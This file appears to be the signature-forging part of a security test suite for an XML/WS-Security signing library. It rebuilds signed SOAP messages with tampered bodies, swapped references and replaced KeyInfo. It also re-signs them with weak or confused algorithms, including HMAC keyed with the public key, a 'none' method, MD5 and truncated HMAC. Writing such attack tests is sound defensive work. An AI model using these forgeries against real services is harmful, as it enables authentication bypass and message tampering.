"""A forger's own signer: any algorithm, any reference, any KeyInfo, with nothing of the code under attack. What it makes with
the honest key and honest algorithms is accepted, or its forgeries would prove nothing; a test holds it to that."""

import base64
import copy
import hashlib
import hmac
from collections.abc import Callable
from dataclasses import dataclass, field

from attack_case import Attack, Loot
from attack_tools import Element, Parts, evil
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature
from lxml import etree

from meterpost.model import KeyPair

DS = "http://www.w3.org/2000/09/xmldsig#"
MORE = "http://www.w3.org/2001/04/xmldsig-more#"
SHA256, SHA1, MD5 = "http://www.w3.org/2001/04/xmlenc#sha256", f"{DS}sha1", f"{MORE}md5"
EXCLUSIVE, COMMENTS = "http://www.w3.org/2001/10/xml-exc-c14n#", "http://www.w3.org/2001/10/xml-exc-c14n#WithComments"
INCLUSIVE = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
ENVELOPED = f"{DS}enveloped-signature"
ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
_HASHES = {SHA256: hashes.SHA256(), SHA1: hashes.SHA1(), MD5: hashes.MD5()}
_HASHLIB = {SHA256: "sha256", SHA1: "sha1", MD5: "md5"}


Sign = Callable[[bytes, KeyPair, Element, Loot], bytes]


@dataclass(frozen=True)
class Method:
    """A SignatureMethod: its URI and how octets are signed with a key, in the sight of the whole message."""

    uri: str
    sign: Sign
    inner: str = ""


def _ecdsa(digest: str) -> Sign:
    def sign(octets: bytes, pair: KeyPair, *_: object) -> bytes:
        key = serialization.load_pem_private_key(pair.private_key, None)
        assert isinstance(key, ec.EllipticCurvePrivateKey)
        size = (key.key_size + 7) // 8
        return b"".join(n.to_bytes(size) for n in decode_dss_signature(key.sign(octets, ec.ECDSA(_HASHES[digest]))))

    return sign


def _rsa(digest: str) -> Sign:
    def sign(octets: bytes, pair: KeyPair, *_: object) -> bytes:
        key = serialization.load_pem_private_key(pair.private_key, None)
        assert isinstance(key, rsa.RSAPrivateKey)
        return key.sign(octets, padding.PKCS1v15(), _HASHES[digest])

    return sign


def keyed(secret: Callable[[KeyPair], bytes], digest: str = SHA256, uri: str = f"{MORE}hmac-sha256", octets: int = 0) -> Method:
    """HMAC with whatever is taken for the secret, cut to `octets`."""

    def sign(text: bytes, pair: KeyPair, *_: object) -> bytes:
        return hmac.digest(secret(pair), text, _HASHLIB[digest])[: octets or None]

    return Method(uri, sign, _cut(octets))


ECDSA, ECDSA_SHA1 = Method(f"{MORE}ecdsa-sha256", _ecdsa(SHA256)), Method(f"{MORE}ecdsa-sha1", _ecdsa(SHA1))
RSA, RSA_SHA1, RSA_MD5 = (
    Method(uri, _rsa(digest))
    for uri, digest in ((f"{MORE}rsa-sha256", SHA256), (f"{DS}rsa-sha1", SHA1), (f"{MORE}rsa-md5", MD5))
)


def _cut(octets: int) -> str:
    return f'<d:HMACOutputLength xmlns:d="{DS}">{octets * 8}</d:HMACOutputLength>' if octets else ""


def derived(octets: int = 0, times: int = 0, uri: str = f"{MORE}hmac-sha256", digest: str = SHA256) -> Method:
    """HMAC with the key that the UsernameToken says, of the honest password (UsernameToken Profile 1.1, 4)."""

    def sign(text: bytes, _: KeyPair, root: Element, loot: Loot) -> bytes:
        parts = Parts(root)
        secret = loot.credentials.password.encode() + base64.b64decode(parts.find("//UsernameToken/Salt").text)
        for _ in range(times or int(parts.find("//UsernameToken/Iteration").text)):
            secret = hashlib.sha1(secret).digest()
        return hmac.digest(secret, text, _HASHLIB[digest])[: octets or None]

    return Method(uri, sign, _cut(octets))


DERIVED = derived()
NONE = Method("none", lambda *_: b"")


def public_key(pair: KeyPair) -> bytes:
    """The public key in PEM, which everybody has."""
    public = x509.load_pem_x509_certificate(pair.certificate).public_key()
    return public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)


def der(pair: KeyPair) -> bytes:
    return x509.load_pem_x509_certificate(pair.certificate).public_bytes(serialization.Encoding.DER)


def _exclusive(element: Element) -> bytes:
    return etree.tostring(element, method="c14n", exclusive=True, with_comments=False)


CANONICAL: dict[str, Callable[[Element], bytes]] = {
    EXCLUSIVE: _exclusive,
    COMMENTS: lambda element: etree.tostring(element, method="c14n", exclusive=True, with_comments=True),
    INCLUSIVE: lambda element: etree.tostring(element, method="c14n", exclusive=False, with_comments=False),
}


@dataclass(frozen=True)
class Forger:
    """`key` names whose key signs (see `Loot.keys`). `ids` are what is signed, by Id; `uris` what the references say
    instead. `transforms` are (Algorithm, inner XML); the last canonicalisation among them is carried out. `key_info` is the
    XML of KeyInfo's inside, '' for none, None to keep the honest one."""

    key: str = "signer"
    method: Method = ECDSA
    digest: str = SHA256
    canonical: str = EXCLUSIVE
    transforms: tuple[tuple[str, str], ...] = ((EXCLUSIVE, ""),)
    ids: tuple[str, ...] = ("B", "T")
    uris: dict[str, str | None] = field(default_factory=dict)
    key_info: Callable[[Loot], str] | None = None
    spoiled: bool = True
    extra: str = ""

    def __call__(self, message: bytes, loot: Loot) -> bytes:
        root = etree.fromstring(message)
        if self.spoiled:
            body = Parts(root).body
            body.getparent().replace(body, evil(body))
        security = Parts(root).security
        old = Parts(root).signature
        info = copy.deepcopy(old.find(f"{{{DS}}}KeyInfo"))
        security.remove(old)
        references = "".join(self._reference(root, name, loot) for name in self.ids)
        signature = etree.fromstring(
            f'<d:Signature xmlns:d="{DS}"><d:SignedInfo><d:CanonicalizationMethod Algorithm="{self.canonical}"/>'
            f'<d:SignatureMethod Algorithm="{self.method.uri}">{self.method.inner}</d:SignatureMethod>{references}'
            f"</d:SignedInfo><d:SignatureValue/>{self.extra}</d:Signature>"
        )
        security.append(signature)
        octets = CANONICAL.get(self.canonical, _exclusive)(signature[0])
        signature[1].text = base64.b64encode(self.method.sign(octets, loot.keys[self.key], root, loot)).decode()
        if self.key_info is None:
            if info is not None:
                signature.insert(2, info)
        elif inner := self.key_info(loot):
            signature.insert(2, key_info(loot, inner))
        return etree.tostring(root)

    def _reference(self, root: Element, name: str, loot: Loot) -> str:
        (element,) = root.xpath("//*[@*[local-name()='Id']=$name]", name=name)
        carried = [uri for uri, _ in self.transforms if uri in CANONICAL]
        octets = CANONICAL[carried[-1] if carried else EXCLUSIVE](element)
        digest = base64.b64encode(hashlib.new(_HASHLIB[self.digest], octets).digest()).decode()
        uri = self.uris.get(name, f"#{name}")
        where = "" if uri is None else ' URI="' + uri.replace("TRAP", loot.trap) + '"'
        listed = "".join(f'<d:Transform Algorithm="{uri}">{inner}</d:Transform>' for uri, inner in self.transforms)
        transforms = f"<d:Transforms>{listed}</d:Transforms>" if listed else ""
        return (
            f'<d:Reference{where}>{transforms}<d:DigestMethod Algorithm="{self.digest}"/>'
            f"<d:DigestValue>{digest}</d:DigestValue></d:Reference>"
        )


def forged(**how: object) -> Attack:
    return Forger(**how)  # type: ignore[arg-type]


def key_info(loot: Loot, inner: str) -> Element:
    return etree.fromstring(f'<d:KeyInfo xmlns:d="{DS}" xmlns:w="{loot.policy.dialect.wsse}">{inner}</d:KeyInfo>')


def issuer_serial(key: str) -> Callable[[Loot], str]:
    """KeyInfo that names a certificate as honest senders do."""

    def inside(loot: Loot) -> str:
        holder = x509.load_pem_x509_certificate(loot.keys[key].certificate)
        return (
            "<w:SecurityTokenReference><d:X509Data><d:X509IssuerSerial>"
            f"<d:X509IssuerName>{holder.issuer.rfc4514_string()}</d:X509IssuerName>"
            f"<d:X509SerialNumber>{holder.serial_number}</d:X509SerialNumber>"
            "</d:X509IssuerSerial></d:X509Data></w:SecurityTokenReference>"
        )

    return inside
